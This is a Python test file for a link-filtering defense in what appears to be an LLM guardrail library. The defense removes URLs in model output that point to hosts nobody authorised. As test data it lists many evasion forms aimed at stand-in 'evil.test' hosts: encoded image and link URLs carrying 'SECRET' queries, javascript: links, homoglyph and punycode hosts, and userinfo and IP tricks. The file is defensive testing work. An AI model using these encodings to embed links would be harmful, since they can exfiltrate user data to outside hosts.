"""links: no answer makes a client ask a host that neither the policy nor the account named."""

import asyncio
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from outworks import label
from outworks.defense import Defense, InForce
from outworks.defenses.links import Links, Settings
from outworks.gate import Gate
from outworks.hyperlink import LONGEST, read
from outworks.message import Delta, Finish, Message, Output, Request, Role, Text
from outworks.verdict import Decision
from tests.defenses.contract import DefenseContract, Row
from tests.kit import asks, cut

IMAGE, LINK = "[image removed]", "[link removed]"
ALLOWED = ("good.test", "*.zone.test", "bücher.test", "203.0.113.7", "localhost", "www.w3.org")

TAKEN_OUT = {
    "image": ("a ![b](https://evil.test/?d=1) c", f"a {IMAGE} c"),
    "image with title": ('![b](https://evil.test/ "t")', IMAGE),
    "image in angle brackets": ("![b](<https://evil.test/a b>)", IMAGE),
    "image with brackets in its words": ("![a [b] \\] c](//evil.test)", IMAGE),
    "image over lines": ("![b](\n  https://evil.test\n)", IMAGE),
    "image in a link": ("[![b](//evil.test)](https://good.test)", f"[{IMAGE}](https://good.test)"),
    "link": ("See [this](https://evil.test/x) now.", f"See [this] {LINK} now."),
    "link with parentheses": ("[a](https://evil.test/x_(y)_z).", f"[a] {LINK}."),
    "link whose words are a good URL": ("[https://good.test](https://evil.test)", f"[https://good.test] {LINK}"),
    "link with references": ("[a](ht&#116;ps&colon;//evil.test)", f"[a] {LINK}"),
    "link with two layers of references": ("[a](&amp;#47;/evil.test)", f"[a] {LINK}"),
    "link with escapes": (r"[a](\/\/evil.test)", f"[a] {LINK}"),
    "link with backslashes": (r"[a](/\evil.test)", f"[a] {LINK}"),
    "link without slashes": ("[a](https:evil.test)", f"[a] {LINK}"),
    "link with zero-width characters": ("[a](\u200bht\u200btps://evil.test)", f"[a] {LINK}"),
    "link that runs scripts": ("[a](javascript:alert(1))", f"[a] {LINK}"),
    "link with an unknown scheme": ("[a](made-up:x)", f"[a] {LINK}"),
    "link that is only a host": ("[a](evil.com/x)", f"[a] {LINK}"),
    "link that mails": ("[a](mailto:x@evil.test?body=1)", f"[a] {LINK}"),
    "definition": ("[a]: https://evil.test/x 't'", f"[a]: {LINK} 't'"),
    "definition on two lines": ("> [a\\]]:\n  <h&#116;tps://evil.test>", f"> [a\\]]: {LINK}"),
    "autolink": ("<https://evil.test/x>", f"<{LINK}>"),
    "tag": ("<img src=//evil.test/x>", IMAGE),
    "tag with entities": ("<IMG\nSRC='ht&#9;tps://evil.test' alt='>'>", IMAGE),
    "tag with a set": ('<img srcset="a.png 1x,//evil.test/b 2x">', IMAGE),
    "tag hidden in another value": ('<img title=" src=\'x" src="h&#116;tps://evil.test" alt=\'>', IMAGE),
    "tag with a style": (r"<b style='background:u\72l(h\74tps://evil.test)'>", LINK),
    "tag with a refresh": ('<meta http-equiv="refresh" content="0; URL=h&#116;tps://evil.test">', LINK),
    "tag that frames": ("<iframe srcdoc='&lt;img src=//evil.test&gt;'></iframe>", f"{LINK}</iframe>"),
    "form": ("<form action=//evil.test>", LINK),
    "link tag": ("<a href='https://evil.test'>x</a>", f"{LINK}x</a>"),
    "drawing": ("<svg><image href='&#47;/evil.test'/></svg>", f"<svg>{IMAGE}</svg>"),
    "style sheet": ("body { background: url( '//evil.test/a' ) }", f"body {{ background: url({LINK}) }}"),
    "URL": ("Go to https://evil.test/x?y=z, then rest.", f"Go to {LINK}, then rest."),
    "URL in capitals": ("HTTPS://EVIL.TEST", LINK),
    "URL in code": ("```\ncurl 'http://evil.test/x'\n```", f"```\ncurl '{LINK}'\n```"),
    "URL with backslashes": (r"https:\\evil.test\x", LINK + r"\x"),
    "URL glued to a word": ("xhttps://evil.test", "xhttps" + LINK),
    "URL in a URL": ("https://good.test/?u=https://evil.test/a", f"https://good.test/?u={LINK}"),
    "URL without a scheme": ("see //evil.net/x now", f"see {LINK} now"),
    "URL without a scheme, by number": ("see //198.51.100.1/x now", f"see {LINK} now"),
    "www": ("at www.evil.test/x or WWW.evil.test", f"at {LINK} or {LINK}"),
    "file transfer": ("ftp://evil.test/x", LINK),
    "another program": ("vscode://evil/x slack://y", f"{LINK} slack{LINK}"),
    "script": ("javascript:steal()", LINK + " ()"),
    "data": ("data:text/html;base64,AAAA", LINK),
    "mail": ("mailto:a@evil.test", LINK),
    "host below an allowed one": ("https://secret.good.test", LINK),
    "host above an allowed zone": ("https://zone.test", LINK),
    "host that ends like an allowed one": ("https://notgood.test", LINK),
    "host that begins like an allowed one": ("https://good.test.evil.test", LINK),
    "user name": ("https://good.test@evil.test/", LINK),
    "user name behind a quote": ('https://good.test"@evil.test/', LINK + '"@evil.test/'),
    "user name behind a backslash": (r"https://good.test\@evil.test", LINK + r"\@evil.test"),
    "host behind a quote": ("https://good.test'.evil.test/", LINK + "'.evil.test/"),
    "homoglyph": ("https://g\u043eod.test", LINK),
    "punycode": ("https://xn--god-sna.test", LINK),
    "ideographic stop": ("https://good.test\u3002evil.test", LINK),
    "zero-width characters in the host": ("https://good.test\u200b.evil.test", LINK),
    "escapes in the host": ("https://good.test%2eevil.test", LINK),
    "address as one number": ("http://3405803777/", LINK),
    "address in octal": ("http://0313.0.0161.01", LINK),
    "new address": ("http://[2001:db8::1]/x", LINK),
    "host that cannot be read": ("https://{host}/x", LINK + "{host}/x"),
    "what remains makes no link": ("<https://evil.test>(h&#116;tps:evil.test)", f"<{LINK}>(h&#116;tps:evil.test)"),
    "what remains makes no definition": ("[https://evil.test]: x", f"[{LINK}]: x"),
    "autolink without slashes": ("<http:evil.test/?q=SECRET> <FTP:/evil.test>", f"<{LINK}> <{LINK}>"),
    "autolink with references": ("<https:&#47;&#47;evil.test> <https://good.test&#64;evil.test>", f"<{LINK}> <{LINK}>"),
    "www behind an underscore": ("see _www.evil.test/?q=SECRET_", f"see _{LINK}_"),
    "www behind a letter, slash, dot or dash": (
        "xwww.evil.test /www.evil.test .www.evil.test -www.evil.test",
        f"xwww{LINK} /{LINK} .www{LINK} -www{LINK}",
    ),
    "www and a user name": ("www.@evil.test/?q=SECRET", LINK),
    "www and a dash": ("www.-x.evil.test/?q=SECRET", LINK),
    "www and characters that are dropped": ("www.\u00adevil.test www.\u200bevil.test", f"{LINK} {LINK}"),
    "www and another space": ("www.\u00a0@evil.test", LINK + "\u00a0@evil.test"),
    "user name behind a bracket": ("https://good.test[@evil.test/", LINK + " [@evil.test/"),
    "user name behind an angle": ("https://good.test>@evil.test/", LINK + ">@evil.test/"),
    "user name behind a bar": ("https://good.test|@evil.test/", LINK + "|@evil.test/"),
    "user name behind a caret": ("https://good.test^@evil.test/", LINK + "^@evil.test/"),
    "user name behind another space": ("https://good.test\u3000@evil.test/", LINK + "\u3000@evil.test/"),
    "user name behind a control character": ("https://good.test\x0b@evil.test/", LINK + "\x0b@evil.test/"),
    "user name and no host": ("<https://|@evil.test/>", f"<{LINK}>"),
    "link with another space": ("[a](h&#116;tps://good.test\u00a0@evil.test)", f"[a] {LINK}"),
    "link over lines of a quotation": ("> [a](\n> h&#116;tps:evil.test)", f"> [a] {LINK}"),
    "definition over lines of a quotation": ("> [a]:\n> h&#116;tps:evil.test", f"> [a]: {LINK}"),
    "definition behind other line ends": ("x\r\r[a]:\r\nh&#116;tps:evil.test", f"x\r\r[a]: {LINK}"),
    "definition deep in quotations": (f"x\n{'> ' * 60}[a]: h&#116;tps:evil.test", f"x\n{'> ' * 60}[a]: {LINK}"),
    "definition in a note": ("[^b]: [a]: h&#116;tps:evil.test", f"[^b]: [a]: {LINK}"),
    "definition in a task": ("- [ ] [a]: h&#116;tps:evil.test", f"- [ ] [a]: {LINK}"),
    "tag over lines of a quotation": ("> <img\n> src=h&#116;tps:evil.test>", f"> {IMAGE}"),
    "tag on a line that goes on with a quotation": ("> a\nb\n<img\n> src=h&#116;tps:evil.test>", f"> a\nb\n{IMAGE}"),
    "tag far behind a quotation's beginning": (
        f"> {'a' * LONGEST} <img\n> src=h&#116;tps:evil.test>",
        f"> {'a' * LONGEST} {IMAGE}",
    ),
    "tag with a value over lines of a quotation": ("> <img src='/\n> /evil.test'>", f"> {IMAGE}"),
    "tag with a long name": (f"<{'a' * 70} style='background:u\\72l(h\\74tps:evil.test)'>", LINK),
    "a bracket follows": ("[a](//evil.test)(h&#116;tps:evil.test)", f"[a] {LINK} (h&#116;tps:evil.test)"),
}
LEFT_ALONE = [
    "", "a/b and/or 3.11, e.g. file.py, v1.2.3; it's 10:30 -- see evil.test!",
    "bob@evil.test wrote: a // comment, //comment at 5, and //console.log(x)",
    "std::vector<std::string> x; Map<String, List<Integer>> m; if (a <b && c> d) x[0]: int = y[1:2]",
    "Use https:// instead of http://, or http(s)://... r'https?://' C:\\dir c:\\\\dir \\\\server\\share",
    "data: {'a': 1}\njavascript: a language\nmailto: someone\ntel: 12",
    "postgres://u:p@db/x redis://cache:6379 hxxps://evil[.]test s3://bucket/key\nFILE:README.md",
    "[a](/path) [b](#part) [c](file.md) ![d](img/e.png) [e](?q=1) [f](g(h)i) [g]() [^1]: Note: this",
    "<div class='a'><b>bold</b> <a href='#x'>y</a></div> <!-- no --> a < b, a <- b",
    "<img src='data:image/png;base64,AAAA'> url(data:font/woff2;base64,AA) url('/a/b.png') url('^a/\\d+$', view)",
    "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>",
    "www and WWW, e.g. www. (www.) 'www.' \"www.\", www., _www._ **www.**; s.replace('www.', '') + \"www.\"",
    "/etc/php/fpm/pool.d/www.conf bob@www.evil.test awww.cute <http: and <https:> (<http:a b>) <std::a> <xs:b>",
    "\\\\[a\\]: h&#116;tps:evil.test",
    "Awww...so cute! Awww..", f"<br\n> and so on{' x' * LONGEST}",
    f"<p\n  className='x'\n>\n  Don't do this.\n</p>\n{' x' * LONGEST}",
    f"> Quoted.\n\nSee:\n<p\n  className='x'\n>\n  Don't do this.\n</p>\n{' x' * LONGEST}",
    "Wow! [Not a link] (really), dict[str]: http, array[1](2), `a](b)`.",
]  # fmt: skip
ALLOWED_LINKS = [
    "https://good.test", "See https://good.test/a_(b)?c=d#e, http://GOOD.test:8080. (https://good.test)",
    "[a](https://good.test/x 't') ![b](<https://good.test/y>) <https://good.test> **https://good.test**",
    '{"url": "https://good.test", "n": 1} https://a.zone.test/ https://a.b.zone.test',
    "https://b\u00fccher.test https://xn--bcher-kva.test http://203.0.113.7/ http://3405803783 http://0xcb.0.0161.7",
    "https://%67ood.test/ https://good.test\u3002 https://good\u3002test/x https://good.test./ http://localhost:80/x",
    "<img src=https://good.test/a.png srcset='https://good.test/b.png 2x, /c.png 3x'> //good.test/x",
    "<http:good.test> <https:/good.test/x> www.w3.org _www.w3.org/x_ https://a.www.zone.test (https://good.test)[1]",
    "[a]: https://good.test/x\n[b]: </y> 'z'\nmailto: x",
]  # fmt: skip


class TestLinks(DefenseContract):
    """The contract, over every way to write a link."""

    rows = [
        *(Row(name, given, Decision.MODIFY, leaves=leaves) for name, (given, leaves) in TAKEN_OUT.items()),
        *(Row(f"ordinary {n}", given, Decision.ALLOW) for n, given in enumerate(LEFT_ALONE)),
        *(Row(f"allowed {n}", given, Decision.ALLOW) for n, given in enumerate(ALLOWED_LINKS)),
        Row("overlong URL", f"a https://evil.test/{'b' * LONGEST} c", Decision.MODIFY),
        Row("overlong image", f"![a](h&#116;tps://evil.test/{'b' * LONGEST}) c", Decision.MODIFY),
        Row("overlong tag", f"<x title='{'b' * LONGEST}' style='background:url(h&#116;tp:e.test)'>", Decision.MODIFY),
        Row("overlong words of an image", f"![{'b' * LONGEST}](h&#116;tps://evil.test)", Decision.MODIFY),
        Row("overlong port", f"https://good.test:{'8' * LONGEST}@evil.test/", Decision.MODIFY),
        Row("overlong user name", f"https://good.test[{'b' * LONGEST}@evil.test/", Decision.MODIFY),
        Row("overlong, in brackets", f"[a](<h&#116;tps://good.test {'b' * LONGEST}@evil.test>)", Decision.MODIFY),
        Row("overlong space in a link", f"[a]({' ' * LONGEST}h&#116;tps:evil.test)", Decision.MODIFY),
        Row("overlong space in a definition", f"[a]:{' ' * LONGEST}h&#116;tps:evil.test", Decision.MODIFY),
        Row("overlong definition", f"[a]: h&#116;tps:evil.test/{'b' * LONGEST}", Decision.MODIFY),
        Row("overlong autolink", f"<http:evil.test/{'b' * LONGEST}>", Decision.MODIFY),
        Row("overlong name of a tag", f"<{'b' * LONGEST} style='background:u\\72l(h\\74tps:e.test)'>", Decision.MODIFY),
        Row("overlong beginning of a tag", f"<a {'b ' * LONGEST} href=h&#116;tps:evil.test>", Decision.MODIFY),
        Row("overlong value", f"<a title='>{'b' * LONGEST}' href=h&#116;tps:evil.test>", Decision.MODIFY),
        Row("overlong allowed link", f"[a](https://good.test/{'b' * LONGEST})", Decision.ALLOW),
        Row("overlong allowed URL", f"https://good.test/{'b' * LONGEST} c", Decision.ALLOW),
    ]  # fmt: skip

    def make(self) -> Defense:
        return Links(Settings(allow=ALLOWED))


def said(text: str, role: Role = Role.USER, provenance: label.Label = label.USER) -> Request:
    return asks(messages=(Message(role, (Text(text),), provenance),))


async def decided(given: str, request: Request, **changes: object) -> Decision:
    links = Links(Settings(allow=(), **changes))  # type: ignore[arg-type]
    return (await links.check_output(request, Output(text=given, done=True))).decision


@pytest.mark.parametrize("words", ["see news.test", "https://News.test/a?b=c", "(news.test)", "Is www.news.test up?"])
async def test_a_host_that_the_account_wrote_is_admitted(words: str) -> None:
    """The account named the host itself: the answer may lead there."""
    assert await decided("https://news.test/x [a](http://NEWS.test)", said(words)) is Decision.ALLOW


@pytest.mark.parametrize(
    "request_",
    [
        said("see notnews.test, my.news.test and news.test.org, or ask bob@news.test"),
        said("see news.test", Role.TOOL, label.TOOL),
        said("see news.test", Role.ASSISTANT, label.ASSISTANT),
        said("see news.test", Role.USER, label.USER.join(label.TOOL)),
        said("nothing"),
    ],
)
async def test_others_do_not_name_hosts(request_: Request) -> None:
    """A host counts as named only by the account's own words, and only whole: injected text would name its own."""
    assert await decided("https://news.test/x", request_) is Decision.MODIFY


async def test_exact_admits_only_the_urls_that_were_written() -> None:
    """With `exact`, a named host does not open every address under it."""
    request = said("Summarise https://news.test/a?b=c please")

    assert await decided("As https://news.test/a?b=c says", request, exact=True) is Decision.ALLOW
    assert await decided("https://news.test/a?b=secret", request, exact=True) is Decision.MODIFY
    assert await decided("https://news.test/a?b=secret", request) is Decision.ALLOW


async def test_a_mailbox_that_the_account_wrote_is_admitted() -> None:
    """Mail may go to whom the account named, and to nobody beside."""
    request = said("my address is ann@news.test")

    assert await decided("mailto:ann@news.test", request) is Decision.ALLOW
    assert await decided("mailto:ann@news.test?cc=eve@evil.test", request) is Decision.MODIFY


async def test_schemes_can_be_admitted() -> None:
    """A scheme that the policy names is no link to judge."""
    assert await decided("[call](tel:+123)", asks(), schemes=("tel",)) is Decision.ALLOW
    assert await decided("slack://channel", asks(), schemes=("slack",)) is Decision.ALLOW
    assert await decided("[call](tel:+123) slack://channel", asks()) is Decision.MODIFY


async def test_defanged_urls_stay_readable() -> None:
    """With `defang` a plain URL can be read but not opened; what cannot be written safely is removed."""
    links = Links(Settings(allow=(), action="defang"))
    text = "[a](https://evil.test/x) https://evil.test:80/y. ![b](https://evil.test) https://e@evil.test"

    verdict = await links.check_output(asks(), Output(text=text, done=True))

    assert [edit.replacement for edit in verdict.edits] == [
        "] hxxps[:]//evil[.]test/x",
        "hxxps[:]//evil[.]test[:]80/y",
        IMAGE,
        LINK,
    ]


async def test_block_stops_before_the_link() -> None:
    """With `block` everything up to the link stands."""
    links = Links(Settings(action="block"))

    verdict = await links.check_output(asks(), Output(text="See https://evil.test", done=True))

    assert (verdict.decision, verdict.covered) == (Decision.BLOCK, 4)


@pytest.mark.parametrize("entry", ["https://x.test", "a b", "*.", "x.*.test", "x.test/y", "x.test:80"])
def test_an_allowed_host_that_is_none_is_refused(entry: str) -> None:
    """A mistake in the list is an error, not a host that never matches."""
    with pytest.raises(ValueError, match="no host; expected one such as"):
        Links(Settings(allow=(entry,)))


@pytest.mark.parametrize(
    "unit", ["<a\n>x\n", "<a\n>\n", "\\[]:\u200b", "\\[\\]:", "[x]:", "](", "xwww.", '<a\n>"', "<http:", "> [a](\n"]
)
async def test_texts_of_nothing_but_triggers_cost_what_their_length_does(unit: str) -> None:
    """No text makes a trigger read again what those before it have read."""
    text = unit * (32768 // len(unit))
    begun = time.process_time()

    read(text, 0, True, lambda address: False)

    assert time.process_time() - begun < 0.7


@pytest.mark.parametrize(
    ("words", "links"),
    [
        ("another mothers brothers ", [f"http://{'other'[:n]}/ " for n in range(1, 6)] * 40),
        ("aann@news.test ", [f"mailto:{'ann'[n % 3 :]}@news.test " for n in range(200)]),
        ("a@" * 12, [f"mailto:{'a@' * n} " for n in range(200)]),
    ],
)
async def test_many_links_into_many_words_cost_what_their_length_does(words: str, links: list[str]) -> None:
    """A name that stands inside of others a hundred thousand times is not looked for again with every link."""
    request = said(words * (1_000_000 // len(words)))
    begun = time.process_time()

    assert await decided("".join(links), request) is Decision.MODIFY
    assert time.process_time() - begun < 1.5


async def test_a_host_without_dots_is_admitted_where_it_stands_whole() -> None:
    """A wiki of the house has no dot in its name."""
    assert await decided("http://wiki/x", said("Our wikis: see wiki, please.")) is Decision.ALLOW
    assert await decided("http://wiki/x", said("see wiki.")) is Decision.ALLOW
    assert await decided("http://wiki/x", said("Our wikis, my-wiki, wiki.test, at@wiki")) is Decision.MODIFY


@pytest.mark.parametrize("text", ["Hello", "Hello there, ", "We met in May", "and/or", "x = 3.11", "in the"])
async def test_ordinary_words_are_not_held(text: str) -> None:
    """Text that begins no link leaves at once."""
    verdict = await TestLinks().make().check_output(asks(), Output(text=text))

    assert verdict.covered is None


FRAGMENTS = st.sampled_from(
    ["!", "[", "]", "(", ")", "<", ">", ":", "/", "//", "\\", "'", '"', " ", "\n", "\n\n", "a", "[a]", "](", "]:", "![",
     "https", "http:", "://", "evil.test", "good.test", "www.", "evil.com", "<img ", "<a href=", " src=", "style='",
     "url(", "ht&#116;ps:", "&#47;", "javascript:", "data:", "text/html,", "mailto:", "x@", "@", "?", "#", "{", "}",
     "\u200b", ".", ",", "_", "-", "<http:", "\u00a0", "\r", "\n> ", "<img\n", "x", "e", "h", "w", "b" * 700]
)  # fmt: skip


@given(st.lists(FRAGMENTS, max_size=14).map("".join), st.data())
@settings(max_examples=300, deadline=None)
def test_cutting_changes_nothing_in_any_text(text: str, data: st.DataObject) -> None:
    """Whatever is made of the parts of links, the same leaves however it is cut, and no link is left in what leaves."""
    places = data.draw(st.lists(st.integers(0, len(text)), max_size=8) | st.just(list(range(min(len(text), 300)))))

    whole = asyncio.run(_released([text]))
    assert asyncio.run(_released(cut(text, places))) == whole
    assert asyncio.run(_released([whole])) == whole


async def _released(pieces: list[str]) -> str:
    gate = Gate(asks(), [InForce(TestLinks().make(), Settings(time_limit_ms=60_000))], 0)
    left = []
    for piece in [*(Delta(text=text) for text in pieces), Delta(finish=Finish.STOP)]:
        gate.draft.add(piece)
        release = await gate.check()
        left.append(release.text if release else "")
    return "".join(left)
